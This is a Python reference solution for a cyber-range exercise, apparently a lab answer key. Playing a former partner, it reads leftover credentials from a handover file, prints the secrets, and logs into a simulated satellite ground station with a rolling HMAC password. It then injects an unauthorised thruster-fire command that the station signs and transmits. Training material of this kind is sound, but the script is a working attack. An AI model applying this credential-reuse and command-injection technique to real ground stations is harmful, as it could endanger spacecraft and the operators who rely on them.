"""Reference attack for contested-station: run on the attacker workstation, as the student
playing the former partner.

1. Read the partner's customer account at the shared station from
   ``~/partner-handover.txt`` (its name and secret; the mission's too).
2. Connect to the station's packet service (``ground-station:10025``, reachable from the
   corporate network) and open with an access request: a PUS TC 200,1 to the station's
   APID (0x7F0) carrying the customer name and the rolling password for now, HMAC-SHA256
   of the name and the period number under the secret (``labctl.protocols.
   station_access``).
3. Send THRUSTER_FIRE (PUS 8,1, function 4, 2600 ms) as a plain space packet: the
   station frames it, protects it with its own SDLS key and transmits it. The spacecraft
   executes a command mission control never sent. The station's verification reports
   (1,1 and 1,7) come back on the same connection.

Exit status 0 when the station let the partner in and took the command; 2 otherwise
(message on the last line).
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from pathlib import Path

from labctl.protocols.pus import PusTc
from labctl.protocols.station_access import (
    ACCESS_REQUEST,
    encode_request,
    period_number,
    rolling_code,
)
from labctl.protocols.stream import packet_stream
from labctl.range.missionclient import handout_fields

HANDOVER = Path.home() / "partner-handover.txt"
STATION = ("ground-station", 10025)
STATION_APID = 0x7F0
PLATFORM_APID = 0x064
THRUSTER_FIRE = 4  # 8,1 function id
BURN_MS = 2600
PERIOD_S = 60.0
LISTEN_S = 8.0


def main() -> int:
    try:
        fields = handout_fields(HANDOVER)
        customer, secret = fields["partner_customer"], bytes.fromhex(fields["partner_secret"])
        print(f"handover notes: customer {customer}, secret {secret.hex()}", flush=True)
        print(f"handover notes: customer mission, secret {fields['mission_secret']}", flush=True)
    except (OSError, KeyError, ValueError) as exc:
        print(f"cannot read {HANDOVER}: {exc}", flush=True)
        return 2
    code = rolling_code(secret, customer, period_number(time.time(), PERIOD_S))
    access = PusTc(STATION_APID, *ACCESS_REQUEST, encode_request(customer, code), ack_flags=0)
    burn = PusTc(PLATFORM_APID, 8, 1, struct.pack(">HH", THRUSTER_FIRE, BURN_MS), seq_count=0x2A2A)
    scanner = packet_stream(check_pec=True)
    try:
        with socket.create_connection(STATION, timeout=10.0) as sock:
            sock.sendall(access.encode() + burn.encode())
            print(f"access request as {customer} ({code.hex()}), then THRUSTER_FIRE", flush=True)
            deadline = time.monotonic() + LISTEN_S
            while (left := deadline - time.monotonic()) > 0:
                sock.settimeout(left)
                try:
                    chunk = sock.recv(65536)
                except TimeoutError:
                    break
                if not chunk:
                    print("the station closed the connection: access refused", flush=True)
                    return 2
                for packet in scanner.feed(chunk)[0]:
                    raw = packet.encode()
                    if len(raw) > 8 and raw[7] == 1:  # TC verification reports
                        print(f"verification report 1,{raw[8]} from APID {packet.apid:#x}")
    except OSError as exc:
        print(f"cannot use the station: {exc}", flush=True)
        return 2
    print(f"the station kept {customer} connected: THRUSTER_FIRE {BURN_MS} ms sent")
    return 0


if __name__ == "__main__":
    sys.exit(main())
